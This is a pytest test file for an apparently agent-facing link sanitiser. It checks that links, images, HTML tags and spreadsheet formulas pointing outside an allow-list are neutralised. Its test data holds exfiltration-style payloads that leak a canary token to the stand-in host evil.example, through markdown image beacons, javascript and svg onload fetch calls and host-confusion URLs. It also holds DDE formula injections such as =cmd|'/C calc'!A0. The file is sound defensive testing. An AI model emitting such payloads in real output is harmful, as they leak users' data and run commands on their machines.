import re

import pytest
from markdown_it import MarkdownIt

from agents.guard.links import allowed, edits

HOSTS = ("wiki.example.org", "*.intranet.example")
CANARY = "zx81-canary"


def inert(text: str) -> str:
    out, at = "", 0
    for edit in edits(text, HOSTS):
        out += text[at : edit.start] + edit.text
        at = edit.end
    return out + text[at:]


FOREIGN = (
    f"see [here](http://evil.example/?q={CANARY}) now",
    f"![x](https://evil.example/{CANARY}.png)",
    f'![x](//evil.example/{CANARY} "title")',
    f"[x](  <https://evil.example/{CANARY} a b>  )",
    f"[x](javascript:fetch('//evil.example/{CANARY}'))",
    f"[x](data:text/html,{CANARY})",
    f"[x](&#104;ttp://evil.example/{CANARY})",
    f"[x](https:evil.example/{CANARY})",
    f"[x](https:\\\\evil.example\\{CANARY})",
    f"[x](/redirect?to={CANARY})",
    f"[x](https://wiki.example.org@evil.example/{CANARY})",
    f"[x](https://wiki.example.org.evil.example/{CANARY})",
    f"[x](https://wiki.example.org:{CANARY}@evil.example/)",
    f"[x][y]\n\n[y]: https://evil.example/{CANARY}",
    f"[y]\n\n[y]: //evil.example/{CANARY} 'title'",
    f"[y]\n\n [y]:\n<evil.example/{CANARY}>",
    f"<https://evil.example/{CANARY}>",
    f"https://evil.example/{CANARY}",
    f"HTTPS://EVIL.EXAMPLE/{CANARY}",
    f"www.evil.example/{CANARY}",
    f"mailto:x@evil.example?subject={CANARY}",
    f'<img src="https://evil.example/{CANARY}">',
    f"<img src=//evil.example/{CANARY} onerror=alert(1)>",
    f"<a href='//evil.example/{CANARY}'>x</a>",
    f"<svg/onload=fetch('//evil.example/{CANARY}')>",
    f"<iframe src=//evil.example/{CANARY}",
    f"[![a](https://evil.example/{CANARY})](https://evil.example/{CANARY})",
    f'=HYPERLINK("https://evil.example/{CANARY}","x")',
)


@pytest.mark.parametrize("text", FOREIGN)
def test_no_target_to_another_host_is_left(text: str) -> None:
    out = inert(text)
    html = MarkdownIt("commonmark", {"html": True, "linkify": False}).render(out)
    assert CANARY not in out
    assert not re.search(r"<[^>]*(href|src|on\w+)\s*=|<(script|iframe|svg|img|a)\b", html)


def test_text_of_a_link_stays() -> None:
    assert inert("see [the travel page](http://evil.example/) now") == "see [the travel page] now"
    assert inert("See https://evil.example/a, then go.") == "See [link removed], then go."


@pytest.mark.parametrize(
    "text",
    [
        "[here](https://wiki.example.org/a?b=c#d)",
        "https://a.b.intranet.example/x and <https://wiki.example.org>",
        "Use <placeholder> and List<int>; a < b, x > y.",
        "- call (now)\n+ more\n- note: this [1] and [2]",
        "-5 degrees (cold)\n+49 30 1234 (call)\n-v (verbose)\n== heading ==\n-x",
        "Ratio 3:1, at 10:30, e.g.: yes; C:\\temp",
        "Report it within one hour (see the policy), or ask.",
    ],
)
def test_what_leads_nowhere_else_stays(text: str) -> None:
    assert inert(text) == text


_FORMULAS = (
    *("=cmd|'/C calc'!A0", "=SUM(A1:A9)", "  =1+cmd|x", "@SUM(1)", "+SUM(1)", "-SUM(1)", "=1+1", "=A1", "-(1)+cmd|x"),
    *(
        "-2+3+cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "= cmd|' /C calc'!A0",
        '-1*HYPERLINK("x","y")',
        "+cmd1|'/C'!A0",
        "+cmd|' /C calc'!A0",
    ),
)


@pytest.mark.parametrize("text", _FORMULAS)
def test_a_formula_is_text(text: str) -> None:
    assert inert(text).lstrip() == "'" + text.lstrip()


def test_a_formula_is_text_on_whatever_line_it_stands() -> None:
    assert inert("Totals:\n=1+1\n  @SUM(1)") == "Totals:\n'=1+1\n  '@SUM(1)"


def test_hosts_are_compared_whole() -> None:
    assert allowed("https://wiki.example.org/", HOSTS)
    assert allowed("https://x.intranet.example", HOSTS)
    assert not allowed("https://intranet.example", HOSTS)
    assert not allowed("https://evilwiki.example.org", HOSTS)
    assert not allowed("ftp://wiki.example.org", HOSTS)
    assert not allowed("https://wiki.example.org", ())
